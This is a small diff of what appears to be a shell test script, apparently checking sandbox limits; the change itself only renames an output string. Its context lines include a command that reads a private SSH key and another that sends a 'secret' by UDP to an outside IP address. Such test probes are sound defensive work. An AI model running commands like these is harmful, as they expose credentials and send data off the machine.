@@ -17,5 +17,5 @@ cat ~/.ssh/id_ed25519
 say "UDP"
 bash -c 'echo secret >/dev/udp/93.184.216.66/53000'
 say "work in the project"
-echo done >result && ls -l result
+echo finished >result && ls -l result
 exit 0
